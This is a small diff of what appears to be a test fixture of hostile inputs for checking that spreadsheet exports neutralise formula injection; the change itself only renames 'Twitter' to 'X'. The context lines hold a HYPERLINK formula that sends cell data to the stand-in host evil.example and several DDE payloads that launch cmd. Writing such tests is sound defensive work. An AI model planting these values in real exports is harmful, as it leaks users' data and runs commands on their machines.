@@ -103,7 +103,7 @@ HOSTILE = {
     "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Open the full report")',
     "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
     "summary": "+cmd|' /C notepad'!A0 and the rest of the summary",
-    "platforms": ["-2+3+cmd|' /C calc'!A0", "Twitter"],
+    "platforms": ["-2+3+cmd|' /C calc'!A0", "X"],
 }
 
 
